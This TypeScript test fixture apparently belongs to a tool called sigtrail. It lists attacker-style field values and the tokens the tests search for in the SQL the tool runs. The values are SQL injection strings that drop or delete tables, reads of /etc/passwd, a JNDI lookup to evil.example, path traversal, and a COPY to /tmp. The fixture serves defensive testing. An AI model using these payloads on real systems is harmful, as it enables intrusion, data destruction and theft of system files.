/**
 * Attacker-written text for every field: the report's hostile strings (markup, script, formulas,
 * terminal and bidi escapes, very long lines, NUL) plus what aims at SQL, paths and parameter
 * binding. Each carries a token that is searched for in every SQL text sigtrail runs.
 */
import { HOSTILE } from '../../fixtures/hostile.js';

export const SQL_HOSTILE: readonly string[] = [
  "'; DROP TABLE events; --",
  "x' OR '1'='1",
  '"; DROP TABLE files; --',
  "'); DELETE FROM signatures WHERE ('a'='a",
  "\\'; DROP TABLE rejects; --",
  '$1 $file_id $path ? %s :name @p',
  "read_text('/etc/passwd')",
  "' UNION SELECT * FROM read_json_objects('/etc/passwd') --",
  '${jndi:ldap://evil.example/a}',
  '../../../../etc/passwd',
  '*.json',
  'COPY events TO \'/tmp/pwned.csv\'',
];

export const HOSTILE_STRINGS: readonly string[] = [...HOSTILE, ...SQL_HOSTILE];

/** Text that appears in no SQL sigtrail writes, only in hostile data. */
export const SQL_TOKENS: readonly string[] = [
  'DROP TABLE events', 'DROP TABLE files', 'DROP TABLE rejects', 'DELETE FROM signatures', "'1'='1", '/etc/passwd', 'jndi:', '__pwned', 'HYPERLINK', 'onerror', '\u202e', '\u001b', 'pwned.csv',
];
